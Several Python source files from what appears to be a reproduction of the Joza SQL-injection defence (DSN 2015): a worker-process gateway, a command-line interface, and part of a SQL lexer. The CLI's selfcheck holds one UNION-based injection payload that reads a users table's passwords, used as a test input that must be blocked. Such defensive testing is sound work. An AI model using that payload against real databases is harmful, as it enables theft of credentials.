    engine over a plain :class:`FragmentStore`, optionally fronting a
    daemon pool.  Multi-tenant mode builds a
    :class:`~repro.tenancy.TenantRegistry` whose shared base is the
    worker's fragment list and provisions one in-process engine per
    tenant over its interned :class:`~repro.tenancy.TenantStore` --
    ``pool_size`` intentionally does not apply there (a daemon pool per
    tenant would fork ``pool_size`` grandchildren per tenant).
    """

    def __init__(
        self,
        fragments,
        config: JozaConfig,
        pool_size: int,
        pool_max_queue: int,
        overload_policy: str,
        seed: int | None,
        tenants: Mapping[str, Sequence[str]] | None,
    ) -> None:
        self.registry = None
        self.engines: dict[str, JozaEngine] = {}
        self.default: JozaEngine | None = None
        if tenants is None:
            self.default = _build_engine(
                fragments,
                config,
                pool_size,
                pool_max_queue,
                overload_policy,
                seed,
            )
            return
        from ..tenancy import TenantRegistry

        self.registry = TenantRegistry(fragments)
        for tenant_id, overlay in tenants.items():
            store = self.registry.add_tenant(tenant_id, overlay)
            self.engines[tenant_id] = JozaEngine(store, config)

    def route(self, client_id: str) -> JozaEngine | None:
        """The engine for one client; None = unknown tenant (fail closed)."""
        if self.registry is None:
            return self.default
        return self.engines.get(client_id)

    def snapshot(self, tenant_id: str, overlay) -> int:
        """Warm-handoff reload of one tenant's overlay; returns new epoch."""
        if self.registry is None:
            raise RuntimeError("snapshot op requires tenant mode")
        if tenant_id not in self.registry:
            raise KeyError(f"unknown tenant {tenant_id!r}")
        return self.registry.reload_tenant(tenant_id, overlay, warm=True)

    def report(self) -> dict:
        if self.registry is None:
            assert self.default is not None
            return self.default.resilience_report()
        report: dict = {"tenancy": self.registry.tenancy_report()}
        report["tenants"] = {
            tenant_id: engine.resilience_report()
            for tenant_id, engine in self.engines.items()
        }
        return report

    def close(self) -> None:
        engines = list(self.engines.values())
        if self.default is not None:
            engines.append(self.default)
        for engine in engines:
            close = getattr(engine.daemon, "close", None)
            if callable(close):
                try:
                    close()
                except Exception:  # pragma: no cover - teardown
                    pass


def _gateway_worker_loop(
    conn,
    fragments,
    config: JozaConfig,
    pool_size: int,
    pool_max_queue: int,
    overload_policy: str,
    pace_seconds: float,
    seed: int | None,
    tenants: Mapping[str, Sequence[str]] | None = None,
) -> None:
    """Child entry point: serve inspect/report/snapshot ops until None/EOF.

    Every inspect answers with ``("ok", [verdict_dict, ...])`` -- one dict
    per query, in order -- or ``("err", reason)``.  An ``("err", ...)``
    reply means the *whole batch* must be resolved fail-closed by the
    parent; the child never invents partial results.
    """
    fleet = _EngineFleet(
        fragments,
        config,
        pool_size,
        pool_max_queue,
        overload_policy,
        seed,
        tenants,
    )
    try:
        while True:
            try:
                message = conn.recv()
            except (EOFError, OSError):
                break
            if message is None:
                break
            try:
                reply = _handle(fleet, message, pace_seconds)
            except Exception as exc:  # noqa: BLE001 - child must answer
                reply = ("err", f"{type(exc).__name__}: {exc}")
            try:
                conn.send(reply)
            except (BrokenPipeError, OSError):
                break
    finally:
        fleet.close()
        try:
            conn.close()
        except OSError:  # pragma: no cover - teardown
            pass


def _handle(fleet: _EngineFleet, message, pace_seconds: float):
    if not isinstance(message, tuple) or not message:
        return ("err", f"malformed worker message: {message!r}")
    op = message[0]
    if op == "inspect":
        _, client_id, path, inputs, queries, budget = message
        engine = fleet.route(client_id)
        if engine is None:
            # Tenant mode and the client named a tenant this worker does
            # not host.  Fail closed per query -- routing to any other
            # tenant's vocabulary would be a cross-tenant leak.
            reason = f"{REASON_UNKNOWN_TENANT}: {client_id!r}"
            return (
                "ok",
                [
                    failsafe_dict(query, reason, tenant=client_id)
                    for query in queries
                ],
            )
        if pace_seconds > 0.0:
            # Models per-request service time so throughput benches show
            # cross-process overlap even on a single-core runner.
            time.sleep(pace_seconds)
        context = RequestContext(
            inputs=[CapturedInput(s, n, v) for s, n, v in inputs],
            path=path,
        )
        deadline = Deadline(budget)
        verdicts = engine.inspect_batch(queries, context, deadline)
        for verdict in verdicts:
            if verdict.safe:
                continue
            if verdict.detected_by():
                engine.stats.bump(attacks_blocked=1)
            engine.attack_log.append(
                AttackRecord(
                    query=verdict.query,
                    verdict=verdict,
                    request_path=path,
                    client_id=client_id or None,
                )
            )
        return ("ok", [verdict_to_dict(v) for v in verdicts])
    if op == "snapshot":
        _, tenant_id, overlay = message
        return ("ok", fleet.snapshot(tenant_id, overlay))
    if op == "report":
        return ("ok", fleet.report())
    if op == "ping":
        return ("ok", "pong")
    return ("err", f"unknown worker op: {op!r}")


class GatewayWorker:
    """Parent-side handle on one engine child process.

    Calls are blocking (the asyncio gateway bridges them through an
    executor) and serialised by an internal I/O lock -- the pipe is strict
    FIFO, so interleaved send/recv from two threads would desynchronise
    replies.  The gateway's free-worker queue already gives each worker
    one caller at a time; the lock makes misuse safe, not fast.
    """

    def __init__(
        self,
        worker_id: int,
        fragments,
        config: JozaConfig,
        *,
        pool_size: int = 0,
        pool_max_queue: int = 8,
        overload_policy: OverloadPolicy = OverloadPolicy.SHED_FAIL_CLOSED,
        pace_seconds: float = 0.0,
        recv_timeout: float = 10.0,
        recv_grace: float = 0.25,
        seed: int | None = None,
        tenants: Mapping[str, Sequence[str]] | None = None,
    ) -> None:
        self.worker_id = worker_id
        self.recv_timeout = recv_timeout
        self.recv_grace = recv_grace
        #: Consecutive failed calls (reset on success); the gateway
        #: replaces the worker when this reaches its ``replace_after``.
        self.consecutive_failures = 0
        self._io_lock = threading.Lock()
        parent_conn, child_conn = multiprocessing.Pipe()
        self._conn = parent_conn
        self._process = multiprocessing.Process(
            target=_gateway_worker_loop,
            args=(
                child_conn,
                list(fragments),
                config,
                pool_size,
                pool_max_queue,
                overload_policy.value,
                pace_seconds,
                seed,
                (
                    None
                    if tenants is None
                    else {
                        tenant_id: list(overlay)
                        for tenant_id, overlay in tenants.items()
                    }
                ),
            ),
            daemon=True,
        )
        self._process.start()
        child_conn.close()

    @property
    def pid(self) -> int | None:
        return self._process.pid

    def is_alive(self) -> bool:
        return self._process.is_alive()

    # ------------------------------------------------------------------
    # Round trips
    # ------------------------------------------------------------------

    def _round_trip(self, message, timeout: float):
        """One send + poll-bounded recv; any fault reaps the child."""
        with self._io_lock:
            try:
                self._conn.send(message)
                if not self._conn.poll(timeout):
                    raise WorkerFailure(
                        f"worker {self.worker_id} silent for {timeout:.3f}s"
                    )
                reply = self._conn.recv()
            except WorkerFailure:
                self._reap()
                raise
            except (BrokenPipeError, EOFError, OSError) as exc:
                self._reap()
                raise WorkerFailure(
                    f"worker {self.worker_id} pipe failure: "
                    f"{type(exc).__name__}"
                ) from exc
        if (
            not isinstance(reply, tuple)
            or len(reply) != 2
            or reply[0] not in ("ok", "err")
        ):
            self._reap()
            raise WorkerFailure(
                f"worker {self.worker_id} corrupt reply: {reply!r}"
            )
        if reply[0] == "err":
            # The child survives its own analysis errors; don't reap, the
            # caller decides (consecutive_failures drives replacement).
            raise WorkerFailure(f"worker {self.worker_id}: {reply[1]}")
        return reply[1]

    def inspect(
        self,
        client_id: str,
        path: str,
        inputs,
        queries,
        budget: float | None,
    ) -> list[dict]:
        """Analyse one batch; returns one verdict dict per query, in order."""
        timeout = (
            self.recv_timeout
            if budget is None
            else max(budget, 0.0) + self.recv_grace
        )
        payload = self._round_trip(
            ("inspect", client_id, path, list(inputs), list(queries), budget),
            timeout,
        )
        if not isinstance(payload, list) or len(payload) != len(queries):
            self._reap()
            raise WorkerFailure(
                f"worker {self.worker_id} returned {len(payload)} verdicts "
                f"for {len(queries)} queries"
                if isinstance(payload, list)
                else f"worker {self.worker_id} corrupt verdict list"
            )
        return payload

    def push_snapshot(
        self,
        tenant_id: str,
        fragments,
        timeout: float | None = None,
    ) -> int:
        """Warm-handoff one tenant's overlay in the live child; new epoch.

        The replication push of the tenancy epoch protocol: the child's
        registry builds the successor state and composite automaton
        off-path, swaps atomically, and keeps serving throughout -- the
        worker process is never restarted for a vocabulary change.
        """
        epoch = self._round_trip(
            ("snapshot", tenant_id, list(fragments)),
            timeout or self.recv_timeout,
        )
        if not isinstance(epoch, int):
            raise WorkerFailure(
                f"worker {self.worker_id} corrupt snapshot ack: {epoch!r}"
            )
        return epoch

    def request_report(self, timeout: float | None = None) -> dict:
        """The child engine's ``resilience_report()`` (operator surface)."""
        report = self._round_trip(("report",), timeout or self.recv_timeout)
        if not isinstance(report, dict):
            raise WorkerFailure(
                f"worker {self.worker_id} corrupt report: {type(report)}"
            )
        return report

    def ping(self, timeout: float = 2.0) -> bool:
        try:
            return self._round_trip(("ping",), timeout) == "pong"
        except WorkerFailure:
            return False

    # ------------------------------------------------------------------
    # Teardown
    # ------------------------------------------------------------------

    def _reap(self) -> None:
        """Hard teardown: close pipe, terminate -> kill, bounded joins."""
        try:
            self._conn.close()
        except OSError:  # pragma: no cover - defensive
            pass
        process = self._process
        process.join(timeout=0.05)
        if process.is_alive():
            process.terminate()
            process.join(timeout=1.0)
        if process.is_alive():  # pragma: no cover - SIGTERM blocked
            process.kill()
            process.join(timeout=1.0)

    def kill(self) -> None:
        """SIGKILL the child (chaos harness hook); no graceful anything."""
        if self._process.is_alive():
            self._process.kill()
            self._process.join(timeout=1.0)

    def close(self, graceful_timeout: float = 1.0) -> None:
        """Graceful shutdown: send None, bounded join, escalate if ignored."""
        with self._io_lock:
            try:
                self._conn.send(None)
            except (BrokenPipeError, OSError):
                pass
            self._process.join(timeout=graceful_timeout)
            self._reap()
