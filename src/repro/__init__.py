"""repro -- reproduction of "Joza: Hybrid Taint Inference for Defeating Web
Application SQL Injection Attacks" (DSN 2015).

Top-level convenience re-exports; see the subpackages for the full API:

- :mod:`repro.core` -- the hybrid engine (the paper's contribution)
- :mod:`repro.nti` / :mod:`repro.pti` -- the two inference components
- :mod:`repro.matching` -- approximate string matching
- :mod:`repro.sqlparser` -- SQL lexer/parser/structure signatures
- :mod:`repro.database` -- in-memory SQL engine (MySQL stand-in)
- :mod:`repro.phpapp` -- simulated PHP application framework
- :mod:`repro.testbed` -- WP-SQLI-LAB equivalent (WordPress + 50 plugins)
- :mod:`repro.attacks` -- exploit mutation tools (Taintless, NTI evasion,
  SQLMap-like variant generation)
- :mod:`repro.bench` -- measurement harness for the paper's tables/figures
"""

from .core import JozaConfig, JozaEngine, QueryVerdict, RecoveryPolicy, Technique

__version__ = "1.0.0"

__all__ = [
    "JozaConfig",
    "JozaEngine",
    "QueryVerdict",
    "RecoveryPolicy",
    "Technique",
    "__version__",
]
