"""Command-line interface: ``python -m repro <command>``.

Mirrors the workflows a Joza operator performs:

- ``fragments`` -- run the installer's extraction over PHP sources and
  optionally persist the fragment store (paper Section IV-A);
- ``inspect`` -- analyse one query against a fragment vocabulary with
  optional request inputs, printing per-technique verdicts and markings;
- ``evaluate`` -- run the WP-SQLI-LAB security evaluation and print the
  Table II / Section V-A headline numbers;
- ``crawl`` -- run the benign crawl false-positive study (Section V-B);
- ``serve`` -- run the guard as a network sidecar (asyncio gateway +
  worker fleet, DESIGN.md section 12) until SIGTERM drains it.
"""

from __future__ import annotations

import argparse
import os
import sys

__all__ = ["main", "build_parser"]


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="Joza hybrid taint inference (DSN 2015 reproduction)",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    fragments = sub.add_parser(
        "fragments", help="extract PTI fragments from PHP source files"
    )
    fragments.add_argument("paths", nargs="+", help=".php files or directories")
    fragments.add_argument("--save", metavar="FILE", help="persist the store as JSON")
    fragments.add_argument(
        "--show", type=int, default=10, metavar="N", help="print the first N fragments"
    )

    inspect = sub.add_parser("inspect", help="analyse one query")
    inspect.add_argument("query", help="the SQL query string")
    inspect.add_argument(
        "--input", action="append", default=[], metavar="VALUE",
        help="a raw request input value (repeatable; feeds NTI)",
    )
    source = inspect.add_mutually_exclusive_group()
    source.add_argument(
        "--fragments-file", metavar="FILE", help="JSON store from 'fragments --save'"
    )
    source.add_argument(
        "--php", nargs="+", metavar="PATH", help="PHP sources to extract fragments from"
    )
    inspect.add_argument(
        "--strict", action="store_true",
        help="Ray/Ligatti-style policy: identifiers are critical tokens",
    )
    inspect.add_argument(
        "--threshold", type=float, default=0.20, help="NTI difference-ratio threshold"
    )

    evaluate = sub.add_parser(
        "evaluate", help="run the WP-SQLI-LAB security evaluation"
    )
    evaluate.add_argument("--posts", type=int, default=8, help="testbed size")

    crawl = sub.add_parser("crawl", help="run the benign-crawl FP study")
    crawl.add_argument("--posts", type=int, default=10, help="testbed size")
    crawl.add_argument("--comments", type=int, default=10)
    crawl.add_argument("--searches", type=int, default=10)

    serve = sub.add_parser(
        "serve", help="run the guard gateway sidecar until SIGTERM"
    )
    listen = serve.add_mutually_exclusive_group(required=True)
    listen.add_argument(
        "--unix", metavar="PATH", help="unix socket path to listen on"
    )
    listen.add_argument(
        "--host", metavar="ADDR", help="TCP host to bind (use with --port)"
    )
    serve.add_argument(
        "--port", type=int, default=0,
        help="TCP port (0 = ephemeral, printed at startup)",
    )
    serve.add_argument(
        "--workers", type=int, default=2, help="engine worker processes"
    )
    serve.add_argument(
        "--worker-pool", type=int, default=0, metavar="N",
        help="PTI daemon subprocesses per worker (0 = in-process PTI)",
    )
    serve.add_argument(
        "--max-queue", type=int, default=16,
        help="requests allowed to wait beyond the worker count",
    )
    serve.add_argument(
        "--deadline", type=float, default=2.0, metavar="SECONDS",
        help="server-side clamp on client deadline budgets (0 = unbounded)",
    )
    serve.add_argument(
        "--admission-timeout", type=float, default=1.0, metavar="SECONDS",
        help="max wait for a free worker before shedding",
    )
    serve.add_argument(
        "--drain-timeout", type=float, default=5.0, metavar="SECONDS",
        help="grace for in-flight work after SIGTERM",
    )
    serve.add_argument(
        "--overload-policy", choices=["shed", "degrade"], default="shed",
        help="worker-internal DaemonPool policy on saturation "
        "(gateway-level sheds are always fail-closed)",
    )
    fragsource = serve.add_mutually_exclusive_group()
    fragsource.add_argument(
        "--fragments-file", metavar="FILE",
        help="JSON store from 'fragments --save'",
    )
    fragsource.add_argument(
        "--php", nargs="+", metavar="PATH",
        help="PHP sources to extract fragments from",
    )
    serve.add_argument(
        "--tenants", metavar="FILE",
        help="multi-tenant mode: JSON object mapping tenant-id -> overlay "
        "fragment list; the fragment source becomes the shared base "
        "vocabulary and the wire client_id routes to the tenant's engine",
    )
    serve.add_argument(
        "--seed", type=int, default=None, help="base RNG seed for workers"
    )
    serve.add_argument(
        "--state-dir", metavar="DIR",
        help="durable state directory (WAL journal + checkpoints); the "
        "gateway restores vocabulary, tenant overlays and the attack "
        "audit trail from it before accepting, and refuses to start on "
        "corrupt state (DESIGN.md section 15)",
    )
    serve.add_argument(
        "--fsync", choices=["always", "batch", "never"], default="batch",
        help="journal fsync policy: per-append / group commit (default) / "
        "OS-buffered",
    )
    serve.add_argument(
        "--checkpoint-every", type=int, default=512, metavar="N",
        help="journal records between compacting checkpoint snapshots",
    )
    serve.add_argument(
        "--selfcheck", action="store_true",
        help="start the gateway, round-trip one attack + one benign query "
        "against a direct in-process engine, then kill and restore from "
        "the state dir asserting byte-identical verdicts; exit nonzero "
        "on divergence",
    )
    return parser


def _iter_php_files(paths):
    for path in paths:
        if os.path.isdir(path):
            for root, __, files in os.walk(path):
                for name in sorted(files):
                    if name.endswith(".php"):
                        yield os.path.join(root, name)
        else:
            yield path


def _load_sources(paths) -> list[str]:
    sources = []
    for file_path in _iter_php_files(paths):
        with open(file_path, "r", encoding="utf-8", errors="replace") as handle:
            sources.append(handle.read())
    return sources


def _cmd_fragments(args, out) -> int:
    from .pti.fragments import FragmentStore

    sources = _load_sources(args.paths)
    if not sources:
        print("no PHP sources found", file=out)
        return 1
    store = FragmentStore.from_sources(sources)
    stats = store.stats()
    print(f"files scanned:    {len(sources)}", file=out)
    print(f"fragments:        {stats['fragments']}", file=out)
    print(f"indexed tokens:   {stats['indexed_tokens']}", file=out)
    print(f"total characters: {stats['total_characters']}", file=out)
    for fragment in store.fragments[: args.show]:
        print(f"  {fragment!r}", file=out)
    if args.save:
        store.save(args.save)
        print(f"saved to {args.save}", file=out)
    return 0


def _cmd_inspect(args, out) -> int:
    from .core import JozaConfig, JozaEngine
    from .nti.inference import NTIConfig
    from .phpapp.context import CapturedInput, RequestContext
    from .pti.fragments import FragmentStore

    if args.fragments_file:
        store = FragmentStore.load(args.fragments_file)
    elif args.php:
        store = FragmentStore.from_sources(_load_sources(args.php))
    else:
        store = FragmentStore()
    config = JozaConfig(
        nti=NTIConfig(threshold=args.threshold), strict_tokens=args.strict
    )
    engine = JozaEngine(store, config)
    context = RequestContext(
        inputs=[CapturedInput("cli", f"input{i}", v) for i, v in enumerate(args.input)]
    )
    verdict = engine.inspect(args.query, context)
    print(f"query : {args.query}", file=out)
    print(f"safe  : {verdict.safe}", file=out)
    if verdict.pti is not None:
        print(f"PTI   : {'safe' if verdict.pti.safe else 'ATTACK'}", file=out)
    if verdict.nti is not None:
        print(f"NTI   : {'safe' if verdict.nti.safe else 'ATTACK'}", file=out)
    for detection in verdict.detections:
        print(
            f"  [{detection.technique.value}] token {detection.token_text!r} "
            f"at {detection.token_start}..{detection.token_end}: {detection.reason}",
            file=out,
        )
    return 0 if verdict.safe else 2


def _cmd_evaluate(args, out) -> int:
    from .testbed.evaluation import evaluate_corpus

    ev = evaluate_corpus(num_posts=args.posts)
    nti_hit, nti_total = ev.nti_baseline
    pti_hit, pti_total = ev.pti_baseline
    joza_hit, joza_total = ev.joza_detections
    print(f"original exploits functional: "
          f"{sum(r.original_works for r in ev.reports)}/{len(ev.reports)}", file=out)
    print(f"NTI baseline detection:       {nti_hit}/{nti_total}", file=out)
    print(f"PTI baseline detection:       {pti_hit}/{pti_total}", file=out)
    print(f"NTI-evasive mutants:          {ev.nti_evasions}/{len(ev.reports)}", file=out)
    print(f"Taintless PTI evasions:       {ev.taintless_successes}/{len(ev.reports)}", file=out)
    print(f"Joza detection:               {joza_hit}/{joza_total}", file=out)
    for scenario in ev.scenario_reports:
        print(
            f"  {scenario.name}: NTI orig={scenario.nti_original} "
            f"PTI orig={scenario.pti_original} Joza={scenario.joza}",
            file=out,
        )
    return 0


def _cmd_crawl(args, out) -> int:
    from .core import JozaEngine
    from .testbed import build_testbed, full_crawl

    app = build_testbed(num_posts=args.posts)
    JozaEngine.protect(app)
    report = full_crawl(
        app, num_posts=args.posts, comments=args.comments, searches=args.searches
    )
    print(f"requests:        {report.total_requests}", file=out)
    print(f"queries:         {report.total_queries}", file=out)
    print(f"false positives: {report.false_positives}", file=out)
    print(f"errors:          {report.error_requests}", file=out)
    return 0 if report.false_positives == 0 else 3


#: Canonical selfcheck pair: one benign query the default vocabulary
#: covers, one classic UNION exfiltration that must be blocked.
_SELFCHECK_BENIGN = ("SELECT * FROM records WHERE ID=7 LIMIT 5", "7")
_SELFCHECK_ATTACK = (
    "SELECT * FROM records WHERE ID=7 UNION SELECT user_pass FROM users"
    " LIMIT 5",
    "7 UNION SELECT user_pass FROM users",
)


def _serve_fragments(args) -> list[str]:
    from .pti.fragments import FragmentStore

    if args.fragments_file:
        return list(FragmentStore.load(args.fragments_file).fragments)
    if args.php:
        return list(
            FragmentStore.from_sources(_load_sources(args.php)).fragments
        )
    from .testbed.concurrency import SWARM_FRAGMENTS

    return list(SWARM_FRAGMENTS)


def _serve_tenants(args) -> dict[str, list[str]] | None:
    """Parse the --tenants JSON file: tenant-id -> overlay fragments.

    Accepts either a flat ``{"tenant": ["frag", ...], ...}`` object or a
    wrapped ``{"tenants": {...}}`` document (the shape ``fragments
    --save`` users tend to hand-extend).  Fail-fast on anything else --
    a malformed tenant map must never silently start a single-tenant
    gateway.
    """
    if not args.tenants:
        return None
    import json

    with open(args.tenants, "r", encoding="utf-8") as handle:
        document = json.load(handle)
    if isinstance(document, dict) and isinstance(
        document.get("tenants"), dict
    ):
        document = document["tenants"]
    if not isinstance(document, dict) or not document:
        raise SystemExit(
            f"--tenants {args.tenants}: expected a non-empty JSON object "
            "mapping tenant-id -> fragment list"
        )
    tenants: dict[str, list[str]] = {}
    for tenant_id, overlay in document.items():
        if not isinstance(overlay, list) or not all(
            isinstance(fragment, str) for fragment in overlay
        ):
            raise SystemExit(
                f"--tenants {args.tenants}: tenant {tenant_id!r} must map "
                "to a list of fragment strings"
            )
        tenants[str(tenant_id)] = overlay
    return tenants


def _serve_gateway(args, out):
    from .core.policy import JozaConfig
    from .core.resilience import OverloadPolicy
    from .service import AsyncGateway, GatewayConfig

    if args.unix and os.path.exists(args.unix):
        os.unlink(args.unix)  # stale socket from an unclean predecessor
    policy = (
        OverloadPolicy.DEGRADE_TO_OTHER_TECHNIQUE
        if args.overload_policy == "degrade"
        else OverloadPolicy.SHED_FAIL_CLOSED
    )
    gateway_config = GatewayConfig(
        unix_path=args.unix,
        host=args.host,
        port=args.port,
        workers=args.workers,
        worker_pool_size=args.worker_pool,
        max_queue=args.max_queue,
        max_deadline=None if args.deadline <= 0 else args.deadline,
        admission_timeout=args.admission_timeout,
        drain_timeout=args.drain_timeout,
        overload_policy=policy,
        seed=args.seed,
        tenants=_serve_tenants(args),
        state_dir=args.state_dir,
        fsync_policy=args.fsync,
        checkpoint_every=args.checkpoint_every,
    )
    return AsyncGateway(
        _serve_fragments(args),
        JozaConfig(),
        gateway_config,
        audit_sink=lambda document: print(document, file=out),
    )


def _selfcheck_round_trip(gateway, queries, inputs):
    """Start a gateway thread, inspect the selfcheck batch, return verdicts.

    The caller owns stopping the thread (drain vs kill semantics differ
    between the two selfcheck legs)."""
    from .service import GatewayClient, GatewayThread

    thread = GatewayThread(gateway).start()
    client = GatewayClient(
        unix_path=gateway.gw.unix_path,
        host=gateway.gw.host,
        port=gateway.gw.port,
        client_id="selfcheck",
    )
    try:
        return thread, client.inspect(queries, inputs=inputs, budget=None)
    finally:
        client.close()


def _serve_selfcheck(gateway, args, out) -> int:
    """Round-trip one benign + one attack query; nonzero on divergence.

    Two legs.  Leg one: verdicts through the live gateway must match a
    direct in-process ``inspect_batch`` over the same fragments and
    config, and the attack must come back unsafe (fail-open is the one
    unforgivable state).  Leg two (restart): the gateway is killed
    crash-shaped -- no drain, no final checkpoint -- and a fresh gateway
    restores from the state dir; its verdicts must be byte-identical to
    the pre-crash ones and the journaled attack evidence must survive.
    With no ``--state-dir``, a temporary directory hosts the restart leg
    so the durability path is always exercised.
    """
    import shutil
    import tempfile

    from .core import JozaEngine
    from .phpapp.context import CapturedInput, RequestContext
    from .service.codec import encode_verdict, verdict_to_dict

    benign_query, benign_value = _SELFCHECK_BENIGN
    attack_query, attack_value = _SELFCHECK_ATTACK
    queries = [benign_query, attack_query]
    inputs = [("get", "p0", benign_value), ("get", "p1", attack_value)]
    failures = []

    temp_dir = None
    if gateway.gw.state_dir is None:
        temp_dir = tempfile.mkdtemp(prefix="joza-selfcheck-")
        gateway.gw.state_dir = temp_dir

    # Leg 1: live gateway, then a crash-shaped kill (no final checkpoint,
    # so the restart leg exercises real journal replay).
    thread, via_gateway = _selfcheck_round_trip(gateway, queries, inputs)
    thread.stop(drain=False)

    # Leg 2: restore from the state dir and re-inspect.
    restarted = _serve_gateway(args, out)
    restarted.gw.state_dir = gateway.gw.state_dir
    try:
        thread2, after_restart = _selfcheck_round_trip(
            restarted, queries, inputs
        )
        drained = thread2.stop()
    finally:
        if temp_dir is not None:
            shutil.rmtree(temp_dir, ignore_errors=True)

    engine = JozaEngine.from_fragments(restarted.fragments, restarted.config)
    context = RequestContext(
        inputs=[CapturedInput(s, n, v) for s, n, v in inputs]
    )
    direct = [
        verdict_to_dict(v) for v in engine.inspect_batch(queries, context)
    ]
    restart_parity = [encode_verdict(d) for d in after_restart] == [
        encode_verdict(d) for d in via_gateway
    ]
    if via_gateway != direct:
        failures.append("gateway verdicts diverge from in-process engine")
    if via_gateway[1]["safe"] or after_restart[1]["safe"]:
        failures.append("attack query came back safe through the gateway")
    if not restart_parity:
        failures.append(
            "restart: restored gateway verdicts diverge from pre-crash"
        )
    if restarted.fragments != gateway.fragments:
        failures.append("restart: vocabulary not restored from state dir")
    recovered = restarted.durable.recovered if restarted.durable else None
    if recovered is None or not recovered.audit:
        failures.append("restart: journaled attack evidence did not survive")
    if not drained:
        failures.append("gateway did not drain cleanly")
    print(f"benign via gateway: safe={via_gateway[0]['safe']}", file=out)
    print(f"attack via gateway: safe={via_gateway[1]['safe']}", file=out)
    print(f"parity with direct engine: {via_gateway == direct}", file=out)
    print(
        f"restart: source={recovered.source if recovered else 'none'} "
        f"byte-identical={restart_parity} "
        f"audit_survived={bool(recovered and recovered.audit)}",
        file=out,
    )
    print(f"drained: {drained}", file=out)
    if failures:
        for failure in failures:
            print(f"SELFCHECK FAILED: {failure}", file=out)
        return 1
    print("selfcheck passed", file=out)
    return 0


def _cmd_serve(args, out) -> int:
    import asyncio

    from .service import serve as serve_gateway

    gateway = _serve_gateway(args, out)
    if args.selfcheck:
        return _serve_selfcheck(gateway, args, out)

    def on_ready(gw) -> None:
        if gw.gw.unix_path is not None:
            print(f"listening on unix:{gw.gw.unix_path}", file=out)
        if gw.gw.host is not None:
            print(f"listening on {gw.gw.host}:{gw.gw.port}", file=out)
        print(
            f"workers={gw.gw.workers} max_queue={gw.gw.max_queue} "
            f"max_deadline={gw.gw.max_deadline}",
            file=out,
        )
        if gw.gw.tenants is not None:
            print(
                f"tenants={len(gw.gw.tenants)} over "
                f"{len(gw.fragments)} shared base fragments",
                file=out,
            )
        if gw.durable is not None:
            recovery = gw.durable.recovered
            print(
                f"durable state: {gw.gw.state_dir} "
                f"(fsync={gw.gw.fsync_policy}, "
                f"restored {len(gw.fragments)} fragments "
                f"from {recovery.source})",
                file=out,
            )
        print("", file=out, end="", flush=True)

    return asyncio.run(serve_gateway(gateway, on_ready=on_ready))


def main(argv=None, out=None) -> int:
    """CLI entry point; returns the process exit code."""
    out = out if out is not None else sys.stdout
    args = build_parser().parse_args(argv)
    handler = {
        "fragments": _cmd_fragments,
        "inspect": _cmd_inspect,
        "evaluate": _cmd_evaluate,
        "crawl": _cmd_crawl,
        "serve": _cmd_serve,
    }[args.command]
    return handler(args, out)


if __name__ == "__main__":  # pragma: no cover
    raise SystemExit(main())
