"""Lexer for the MySQL-flavoured SQL subset.

The lexer is shared by every analysis in the system: the parser builds ASTs
from its token stream, NTI uses token spans to enforce the whole-token rule,
PTI extracts the critical-token list, and fragment extraction uses it to
decide which application string literals contain "at least one valid SQL
token" (Section IV-A).

Design points that matter for security analysis:

- **Exact spans.**  Every token records its ``[start, end)`` offsets in the
  original query string, so taint markings (which are character ranges) can
  be intersected with tokens precisely.
- **Comments are single tokens.**  ``/* ... */``, ``-- ...`` and ``# ...``
  each lex to one :class:`~repro.sqlparser.tokens.Token` of type ``COMMENT``,
  because the paper requires comments to be "fully contained in one
  fragment" and to count as one critical token.
- **Lossless.**  Concatenating the ``text`` of all tokens (including
  whitespace tokens) reproduces the input exactly; a property test pins this
  invariant.
- **Error tolerance.**  Web applications emit malformed SQL under attack;
  the lexer never raises on stray characters, it emits them as one-character
  OPERATOR tokens so downstream analyses still see them as critical.
"""

from __future__ import annotations

from .tokens import Token, TokenType, is_sql_keyword

__all__ = ["tokenize", "tokenize_significant", "SqlLexError"]

_OPERATOR_STARTS = set("=<>!+-*/%&|^~.")
_TWO_CHAR_OPERATORS = {
    "<=", ">=", "<>", "!=", ":=", "||", "&&", "<<", ">>", "->",
}
_PUNCTUATION = set("(),;")


class SqlLexError(Exception):
    """Raised only for internal invariant violations, never for bad SQL."""


def _lex_line_comment(text: str, pos: int) -> int:
    """Return the end offset of a comment running to end-of-line."""
    end = text.find("\n", pos)
    return len(text) if end < 0 else end


def _lex_block_comment(text: str, pos: int) -> int:
    """Return the end offset of a ``/* ... */`` comment (inclusive of ``*/``).

    An unterminated block comment swallows the rest of the query, matching
    MySQL's behaviour and keeping the "comment is one token" rule intact for
    truncated attack payloads such as ``... /*``.
    """
    end = text.find("*/", pos + 2)
    return len(text) if end < 0 else end + 2


def _lex_quoted(text: str, pos: int, quote: str) -> int:
    """Return end offset of a quoted region starting at ``pos``.

    Handles backslash escapes and doubled-quote escapes (``''`` inside a
    single-quoted string).  Unterminated strings run to end of input.
    """
    i = pos + 1
    n = len(text)
    while i < n:
        ch = text[i]
        if ch == "\\" and quote != "`":
            i += 2
            continue
        if ch == quote:
            if i + 1 < n and text[i + 1] == quote:
                i += 2
                continue
            return i + 1
        i += 1
    return n


def _string_value(raw: str, quote: str) -> str:
    """Decode the semantic value of a quoted literal."""
    body = raw[1:]
    if body.endswith(quote):
        body = body[:-1]
    if quote == "`":
        return body.replace("``", "`")
    out: list[str] = []
    i = 0
    n = len(body)
    while i < n:
        ch = body[i]
        if ch == "\\" and i + 1 < n:
            nxt = body[i + 1]
            out.append({"n": "\n", "t": "\t", "r": "\r", "0": "\0"}.get(nxt, nxt))
            i += 2
        elif ch == quote and i + 1 < n and body[i + 1] == quote:
            out.append(quote)
            i += 2
        else:
            out.append(ch)
            i += 1
    return "".join(out)


_ASCII_DIGITS = "0123456789"


def _is_ascii_digit(ch: str) -> bool:
    # str.isdigit() accepts Unicode digits (e.g. superscripts) that int()
    # rejects; SQL numbers are ASCII only.
    return ch in _ASCII_DIGITS


def _scan_number(text: str, pos: int) -> tuple[int, str]:
    """Span of a numeric literal starting at ``pos``: ``(end, kind)``.

    ``kind`` is ``"hex"``, ``"int"`` or ``"float"``.  This is the single
    source of truth for numeric spans: :func:`_lex_number` layers value
    conversion on top, and the skeletonizer
    (:mod:`repro.sqlparser.skeleton`) relies on the same spans so literal
    slots always agree with :func:`tokenize`.
    """
    n = len(text)
    i = pos
    if text.startswith(("0x", "0X"), pos):
        i = pos + 2
        while i < n and text[i] in "0123456789abcdefABCDEF":
            i += 1
        if i > pos + 2:
            return i, "hex"
